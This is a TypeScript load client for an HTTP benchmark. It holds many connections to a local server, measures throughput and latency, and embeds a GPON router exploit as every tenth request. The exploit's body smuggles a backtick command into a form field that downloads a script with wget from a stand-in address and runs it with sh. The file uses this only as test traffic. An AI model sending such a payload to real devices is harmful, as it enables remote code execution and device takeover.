// Load client process for bench/http.ts: keeps N keep-alive connections busy with one request at a
// time each (a browser-like GET, every tenth a GPON exploit POST), as fast as possible or paced at a
// total rate, and prints requests/s and latency (paced: from the scheduled send time, so a stall counts).
import { connect, type Socket } from 'node:net';

interface LoadRequest {
  readonly port: number;
  readonly connections: number;
  readonly warmupMs: number;
  readonly durationMs: number;
  /** Total requests/s to pace at (each connection sends on a fixed schedule); unset: as fast as answers come. */
  readonly rate?: number;
}

const request = JSON.parse(process.argv[2] ?? '{}') as LoadRequest;
const get = Buffer.from('GET /index.html HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36\r\nAccept: text/html,application/xhtml+xml\r\nAccept-Language: en-US,en;q=0.9\r\nConnection: keep-alive\r\n\r\n', 'latin1');
const exploitBody = 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://192.0.2.1/gpon;sh+gpon`;&ipv=0';
const exploit = Buffer.from(`POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Hello, World\r\nContent-Length: ${exploitBody.length}\r\n\r\n${exploitBody}`, 'latin1');

const latencies: number[] = [];
let completed = 0;
let errors = 0;
let reconnects = 0;
const startedAt = performance.now();
const measureFrom = startedAt + request.warmupMs;
const stopAt = measureFrom + request.durationMs;

/** One connection: send, read one full response (Content-Length framed), repeat; reconnect when closed. */
function run(index: number): Promise<void> {
  return new Promise((resolve) => {
    let socket: Socket;
    let pending: Buffer = Buffer.alloc(0);
    let sentAt = 0;
    let sent = index;
    const interval = request.rate ? (request.connections * 1000) / request.rate : 0;
    // Connections start spread over one interval, so a paced load does not arrive in bursts.
    let due = performance.now() + (interval * index) / request.connections;
    const send = (): void => {
      const now = performance.now();
      if (now >= stopAt) {
        socket.end();
        return resolve();
      }
      if (interval > 0 && due > now) {
        setTimeout(send, due - now);
        return;
      }
      sentAt = interval > 0 ? due : now;
      due += interval;
      socket.write(++sent % 10 === 0 ? exploit : get);
    };
    const open = (): void => {
      socket = connect({ host: '127.0.0.1', port: request.port, noDelay: true }, send);
      socket.on('data', (chunk: Buffer) => {
        pending = pending.length === 0 ? chunk : Buffer.concat([pending, chunk]);
        const headEnd = pending.indexOf('\r\n\r\n');
        if (headEnd === -1) return;
        const length = Number(/\r\ncontent-length: *(\d+)/i.exec(pending.subarray(0, headEnd).toString('latin1'))?.[1] ?? 0);
        if (pending.length < headEnd + 4 + length) return;
        pending = pending.subarray(headEnd + 4 + length);
        const now = performance.now();
        if (now >= measureFrom && now < stopAt) {
          completed++;
          latencies.push(now - sentAt);
        }
        send();
      });
      socket.on('error', () => errors++);
      socket.on('close', () => {
        if (performance.now() >= stopAt) return resolve();
        reconnects++;
        pending = Buffer.alloc(0);
        open();
      });
    };
    open();
  });
}

function percentile(sorted: readonly number[], p: number): number {
  return sorted.length === 0 ? 0 : sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))]!;
}

await Promise.all(Array.from({ length: request.connections }, (_, i) => run(i)));
const sorted = latencies.sort((a, b) => a - b);
const seconds = request.durationMs / 1000;
const round = (n: number): number => Math.round(n * 100) / 100;
process.stdout.write(`${JSON.stringify({ event: 'result', requests: completed, seconds, rps: Math.round(completed / seconds), p50: round(percentile(sorted, 50)), p95: round(percentile(sorted, 95)), p99: round(percentile(sorted, 99)), errors, reconnects })}\n`);
